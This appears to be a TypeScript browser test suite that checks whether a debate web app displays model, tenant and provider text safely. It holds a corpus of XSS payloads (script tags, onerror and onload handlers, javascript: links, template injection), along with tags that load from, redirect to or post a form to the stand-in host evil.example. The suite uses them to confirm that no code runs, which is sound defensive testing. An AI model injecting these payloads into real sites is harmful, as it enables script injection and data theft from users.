/** The page never executes or loads text of a model, a tenant or a provider, and never parses it as markup. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildTestApp, ended, type TestApp } from '../support/build-app.ts';
import { json, status } from '../support/fake-provider/fake-reply.ts';
import type { Script } from '../support/fake-provider/scripts.ts';
import { requestedFields } from '../support/fake-provider/scripts.ts';
import { BROWSER_TIMEOUT, openPage, startBrowser, type WatchedPage } from './browser.ts';

/** Code that sets a global variable when the page executes it. */
const HARMFUL_CODE = 'window.hacked=1';
const corpus: Readonly<Record<string, string>> = {
  'a script': `<script>${HARMFUL_CODE}</script>`,
  'a script out of an attribute': `"><script>${HARMFUL_CODE}</script>`,
  'a script out of a text area and a title': `</textarea></title></style><script>${HARMFUL_CODE}</script>`,
  'an image that fails': `<img src=x onerror="${HARMFUL_CODE}">`,
  'an image from another host': '<img src="http://evil.example/pixel.gif">',
  'an attribute': `' onmouseover='${HARMFUL_CODE}' autofocus onfocus='${HARMFUL_CODE}' x='`,
  'an SVG image': `<svg onload="${HARMFUL_CODE}"><animate onbegin="${HARMFUL_CODE}" attributeName=x dur=1s></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.${HARMFUL_CODE}</script>"></iframe>`,
  'a link with a script': `<a href="javascript:${HARMFUL_CODE}">javascript:${HARMFUL_CODE}</a>`,
  'a style': '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  'a base and a refresh':
    '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">',
  'a form': '<form action="http://evil.example/"><input name=key autofocus></form>',
  'markup in character references': `&lt;img src=x onerror=${HARMFUL_CODE}&gt; &#60;script&#62;${HARMFUL_CODE}&#60;/script&#62;`,
  'a template': `\${${HARMFUL_CODE}} {{constructor.constructor("${HARMFUL_CODE}")()}} <\${Script} />`,
  'a node of the library': `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${HARMFUL_CODE}"}},"__v":1}`,
  'names of object properties': '__proto__ constructor toString hasOwnProperty',
  'an event of the stream': `\n\nid: 99\nevent: debate.completed\ndata: {"result":null}\n\n<img src=x onerror=${HARMFUL_CODE}>`,
  'right-to-left control characters': `\u202e\u2066<script>${HARMFUL_CODE}</script>\u2069`,
};

/** The text that every debater of the running debate writes. */
let hostileText = '';

/** Two debaters never agree. The provider refuses the call of the third with this text. */
const script: Script = (request) => {
  if (request.model === 'gpt-5-mini') return status(400, { message: hostileText });
  const answer = `${request.model} ${hostileText}`;
  const initialFields = { answer, reasoning: `${hostileText} ${hostileText}`, confidence: 0.6 };
  if (!requestedFields(request).includes('critiques')) return json(initialFields);
  return json({
    ...initialFields,
    answer: `${answer} again`,
    restated_answer: answer,
    critiques: ['Peer A', 'Peer B'].map((peer) => ({ peer, assessment: hostileText })),
    changed: true,
    change_justification: hostileText,
  });
};
let browser: Browser;
let service: TestApp;
let page: WatchedPage;

beforeAll(async () => {
  browser = await startBrowser();
  service = await buildTestApp({ script });
  page = await openPage(browser, await service.listen());
}, 120_000);
afterAll(async () => {
  await page.closeContext();
  await service.close();
  await browser.close();
  expect(page.faults).toEqual([]);
});

/** Expects that no code ran and that the page has only elements that its own code creates. */
async function expectHarmless(): Promise<void> {
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(page.faults).toEqual([]);
  expect(await page.evaluate('window.policyViolations')).toEqual([]);
  const unexpectedElements = `[...document.querySelectorAll('main :is(script, img, iframe, style, link, base, meta, object, embed, animate)')]
    .concat([...document.querySelectorAll('*')].filter((each) => [...each.attributes].some(({ name, value }) =>
      name.startsWith('on') || /^\\s*javascript:/i.test(value) || (name === 'href' && !/^[/]/.test(value)))))
    .map(({ outerHTML }) => outerHTML)`;
  expect(await page.evaluate(unexpectedElements)).toEqual([]);
}

/** The text with one space for each run of white space. */
const normalizeSpace = (text: string | null) => (text ?? '').replaceAll(/\s+/g, ' ');

describe.each(Object.entries(corpus))('hostile text (%s)', (_, text) => {
  test('is shown as text in every field of a debate, without an effect', BROWSER_TIMEOUT, async () => {
    hostileText = text;
    const payload = {
      question: `Question ${hostileText}`,
      context: hostileText,
      adaptive_routing: false,
      max_rounds: 2,
      convergence_similarity: 1,
      metadata: { note: hostileText.slice(0, 512) },
      debaters: [
        { model: 'openai/gpt-4o-mini', name: '__proto__', role_hint: hostileText },
        { model: 'openai/gpt-4o', name: 'constructor' },
        { model: 'openai/gpt-5-mini' },
      ],
    };
    const response = await service.app.inject({ method: 'POST', url: '/v1/debates', payload });
    expect(response.statusCode, response.body).toBe(202);
    const { id } = response.json();
    await ended(service, id);
    await page.goto(`/d/${id}`);
    await page.getByText('Completed', { exact: true }).waitFor();
    for (const details of await page.locator('td details').all()) await details.locator('summary').click();
    const pageText = normalizeSpace(await page.locator('main').textContent());
    const expected = normalizeSpace(hostileText).trim();
    // The question, two answers, the answers before them, reasons, critiques and justifications.
    expect(pageText.split(expected).length - 1).toBeGreaterThanOrEqual(12);
    await expectHarmless();
  });
});

test('hostile text › is shown as text in the lists, the filters and the commands', BROWSER_TIMEOUT, async () => {
  for (const path of ['/#history', '/#review', '/#budget', '/']) {
    await page.goto('about:blank');
    await page.goto(path);
    await page.locator('main h1').waitFor();
    await expectHarmless();
  }
  for (const hostileText of Object.values(corpus)) {
    await page.getByRole('textbox', { name: 'Question' }).fill(hostileText);
    await expectHarmless();
  }
});

test('hostile text › is shown as text in a refusal of the service', BROWSER_TIMEOUT, async () => {
  await page.goto('/');
  await page.getByRole('textbox', { name: 'Question' }).fill('Who?');
  await page.getByText('Models, options, context, limits').click();
  await page.getByRole('textbox', { name: /^Models/ }).fill(`openai/<img/src=x/onerror=${HARMFUL_CODE}>\nopenai/b`);
  await page.getByRole('button', { name: 'Start debate' }).click();
  await page.getByRole('alert').or(page.locator('h1.question')).first().waitFor();
  await expectHarmless();
});
